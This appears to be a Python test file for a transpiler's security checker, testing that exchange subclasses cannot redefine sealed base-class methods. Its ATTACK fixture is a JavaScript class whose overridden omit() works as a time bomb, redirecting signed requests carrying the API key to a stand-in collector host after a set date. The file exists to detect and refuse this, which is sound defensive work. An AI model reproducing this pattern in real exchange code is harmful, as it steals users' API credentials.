"""The methods of the base class that the construction runs cannot be redefined (SUB-B006, red-team round 23).

SUB-B011 keeps describe () written out: its only calls are super.describe (), this.deepExtend (), this.extend () and
this.omit (), so that the hosts `exkit certify` reads (CERT-R001) are those of every construction. deepExtend and
extend are sealed native primitives, but omit was a method of the portable base class that an exchange could redefine,
and describe ()'s `this.omit (...)` then ran the file's own omit, with the clock and conditions in it. Measured before
the change with ATTACK below (its condition on a date in the past, and the collector a server on 127.0.0.1): `exkit
check` passed it, and the signed request of `privateGetJson`, its API key in a header, went to the collector in Node,
Python sync, asyncio and PHP, while the registry's reading of the class (Node, before the date) saw
https://api.omitter.example only. The construction also names the implicit API methods through splitWords,
camelCaseWords, inArray and arrayConcat (collectImplicitApi, itself sealed), which Python and PHP read once per class
and api tree and Node at every construction: a redefinition made them depend on more than the tree.
"""

from __future__ import annotations

import os
import re

import pytest

from tests.checking import check_text
from transpiler.names import CONSTRUCTION_CALLED, is_sealed
from transpiler.rules.sandbox import DESCRIBE_CALLS

ROOT = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))

ATTACK = """import Exchange from './base/Exchange.js';

export default class omitter extends Exchange {
    describe () {
        return this.omit (this.deepExtend (super.describe (), {
            'id': 'omitter',
            'urls': { 'api': 'https://api.omitter.example/api' },
            'api': { 'private': { 'get': [ 'json' ] } },
        }), 'unused');
    }

    omit (dictionary, keys) {
        if (this.milliseconds () > 1800000000000) {
            return this.extend (dictionary, { 'urls': { 'api': 'https://collector.example/api' } });
        }
        return dictionary;
    }

    sign (path, api = 'public', method = 'GET', params = {}, headers = undefined, body = undefined) {
        const url = this.urls['api'] + '/' + path + '?' + this.urlencode (params);
        const signature = this.hmac (this.encode (url), this.encode (this.secret), 'sha256', 'hex');
        return { 'url': url, 'method': method, 'body': body, 'headers': { 'X-Key': this.apiKey, 'X-Signature': signature } };
    }
}
"""

# The exchange's hooks that the sealed methods of the base class call, where every runtime calls them alike.
HOOKS = {"sign", "handleErrors", "parseTrade", "findBroadlyMatchedKey"}


def test_the_time_bomb_in_omit_is_refused():
    findings = [(finding.rule, finding.line) for finding in check_text(ATTACK, "js/omitter.js")]
    # (SUB-D007 too: the base class's omit hands back a copy, and this one the dictionary it is given)
    assert findings == [("SUB-B006", 12), ("SUB-D007", 12)], findings


@pytest.mark.parametrize("name", sorted(CONSTRUCTION_CALLED))
def test_a_helper_of_the_construction_cannot_be_redefined(name):
    source = ("import Exchange from './base/Exchange.js';\n\nexport default class example extends Exchange {\n"
              f"    {name} (a, b = undefined) {{\n        return a;\n    }}\n}}\n")
    assert "SUB-B006" in {finding.rule for finding in check_text(source)}


def test_what_describe_may_call_is_sealed():
    assert all(is_sealed(name) for name in DESCRIBE_CALLS)


def test_the_sealed_methods_of_the_base_class_call_only_sealed_methods_and_hooks():
    with open(os.path.join(ROOT, "js", "base", "Exchange.js"), encoding="utf-8") as handle:
        base = handle.read()
    methods = re.findall(r"\n    (?:async )?([A-Za-z_]\w*) \([^\n]*\{\n(.*?)\n    \}\n", base, re.S)
    assert len(methods) > 100, "the base class's methods were not found (has its layout changed?)"
    open_ = {(name, called) for name, body in methods if is_sealed(name)
             for called in re.findall(r"\bthis\.([A-Za-z_]\w*) \(", body) if not is_sealed(called)}
    assert {called for _, called in open_} <= HOOKS, sorted(open_)
